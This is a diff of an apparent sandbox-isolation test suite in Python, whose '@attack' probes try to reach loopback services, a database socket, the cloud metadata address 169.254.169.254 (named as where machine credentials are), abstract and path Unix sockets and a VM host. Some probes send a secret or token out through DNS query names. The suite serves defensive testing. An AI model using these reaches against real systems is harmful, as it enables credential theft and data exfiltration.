@@ -15,20 +15,31 @@ OWN = stopped("its own network, with nothing in it")
 NEEDS_ROOT = stopped("it needs a capability")
 
 
-@attack(NETWORK, process=OPEN, sandbox=OWN, quick=True)
+@attack(
+    NETWORK,
+    process=OPEN,
+    sandbox=OWN,
+    quick=True,
+)
 def service_on_loopback(host: Host) -> object:
     """Reach a service on the loopback address of the machine."""
     return greeted(socket.AF_INET, (host.loopback, host.service_port))
 
 
-@attack(NETWORK, process=OPEN, sandbox=OWN, with_root_alone=True)
+@attack(
+    NETWORK,
+    process=stopped("its socket lies in a folder that is closed"),
+    sandbox=stopped("it is not mounted"),
+    with_root_alone=True,
+)
 def database(host: Host) -> object:
-    """Reach the port of the embedded database."""
-    with socket.create_connection(("127.0.0.1", host.database_port), 2) as connection:
+    """Reach the embedded database."""
+    with socket.socket(socket.AF_UNIX) as connection:
+        connection.connect(host.database_socket)
         return connection.getpeername()
 
 
-@attack(NETWORK, process=OPEN, sandbox=OWN, quick=True)
+@attack(NETWORK, process=OPEN, sandbox=OWN)
 def credentials_of_the_cloud(host: Host) -> object:
     """Reach the metadata address of clouds, where the credentials of the machine are: 169.254.169.254."""
     return greeted(socket.AF_INET, (host.metadata, host.service_port))
@@ -40,7 +51,7 @@ def public_address(host: Host) -> object:
     return greeted(socket.AF_INET, (host.public_address, host.service_port))
 
 
-@attack(NETWORK, process=OPEN, sandbox=OWN, quick=True)
+@attack(NETWORK, process=OPEN, sandbox=OWN)
 def public_address_6(host: Host) -> object:
     """Reach a public address of IPv6."""
     return greeted(socket.AF_INET6, (host.public_address_6, host.service_port))
@@ -58,7 +69,12 @@ def datagrams(host: Host) -> object:
     return greeted(socket.AF_INET, (host.public_address, host.service_port), socket.SOCK_DGRAM)
 
 
-@attack(NETWORK, process=OPEN, sandbox=OWN, quick=True)
+@attack(
+    NETWORK,
+    process=OPEN,
+    sandbox=OWN,
+    quick=True,
+)
 def secrets_in_questions(host: Host) -> object:
     """Send a secret out as a name that a resolver is asked for (DNS)."""
     question = struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + b"\x06secret\x04test\0" + struct.pack("!HH", 1, 1)
@@ -75,13 +91,18 @@ def secrets_in_names(host: Host) -> object:
     return socket.getaddrinfo(f"{host.token}.secret.test", 80, socket.AF_INET)
 
 
-@attack(NETWORK, process=reached("it has no owner"), sandbox=stopped("its own network, and so its own such names"), quick=True)
+@attack(
+    NETWORK,
+    process=reached("it has no owner"),
+    sandbox=stopped("its own network, and so its own such names"),
+    quick=True,
+)
 def abstract_socket(host: Host) -> object:
     """Reach a socket of the machine that has a name and no place (an abstract one), as desktops have."""
     return greeted(socket.AF_UNIX, "\0" + host.abstract_socket)
 
 
-@attack(NETWORK, process=reached("all users may connect to it"), sandbox=stopped("it is not mounted"), quick=True)
+@attack(NETWORK, process=reached("all users may connect to it"), sandbox=stopped("it is not mounted"))
 def socket_in_a_folder(host: Host) -> object:
     """Reach a socket of the machine by its path, as those of containers, of the journal, of databases."""
     return greeted(socket.AF_UNIX, host.public_socket)
@@ -120,8 +141,12 @@ def address_of_its_own(host: Host) -> object:
     return "added"
 
 
-@attack(NETWORK, process=depends("whether the machine is a virtual one that lets its users talk to its host"),
-        sandbox=stopped("such sockets are refused"), is_shown=False)  # fmt: skip
+@attack(
+    NETWORK,
+    process=depends("whether the machine is a virtual one that lets its users talk to its host"),
+    sandbox=stopped("such sockets are refused"),
+    is_shown=False,
+)
 def host_of_the_machine(host: Host) -> object:
     """Talk to the host of a virtual machine (`AF_VSOCK`), which has no namespaces."""
     return socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
@@ -139,4 +164,4 @@ def descriptors_for_others(host: Host) -> object:
             connection.sendmsg([b"x"], rights)
             return connection.recv(GREETING_BYTES)
 
-    return first_of([lambda: sent(host.public_socket), lambda: sent("\0" + host.abstract_socket)])
+    return first_of(sent, (host.public_socket, "\0" + host.abstract_socket))
